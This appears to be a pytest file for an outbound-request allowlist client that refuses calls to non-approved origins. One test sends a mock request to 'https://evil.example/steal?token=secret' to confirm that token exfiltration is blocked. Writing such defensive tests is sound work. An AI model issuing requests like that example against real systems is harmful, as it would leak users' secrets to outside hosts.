import httpx
import pytest

from pledge.egress import EgressRefused, OutboundClient


def _echo(request: httpx.Request) -> httpx.Response:
    return httpx.Response(200, json={"host": request.url.host})


async def test_allowed_origin_passes_and_others_are_refused_before_sending() -> None:
    sent: list[str] = []

    def record(request: httpx.Request) -> httpx.Response:
        sent.append(str(request.url))
        return _echo(request)

    client = OutboundClient(["https://api.atlassian.com"], transport=httpx.MockTransport(record))
    assert (await client.request("GET", "https://api.atlassian.com/x")).json() == {"host": "api.atlassian.com"}
    with pytest.raises(EgressRefused, match=r"refused outbound request to https://evil\.example: not an allowed"):
        await client.request("GET", "https://evil.example/steal?token=secret")
    with pytest.raises(EgressRefused):
        await client.request("GET", "http://api.atlassian.com/x")  # same host, other scheme
    assert sent == ["https://api.atlassian.com/x"]
    assert client.refusals == 2
    await client.aclose()


async def test_the_tenant_site_is_allowed_per_call() -> None:
    client = OutboundClient([], transport=httpx.MockTransport(_echo))
    site = "https://acme.atlassian.net"
    assert (await client.request("GET", f"{site}/rest/api/3/myself", also_allow=[site])).status_code == 200
    with pytest.raises(EgressRefused):
        await client.request("GET", f"{site}/rest/api/3/myself")
    await client.aclose()
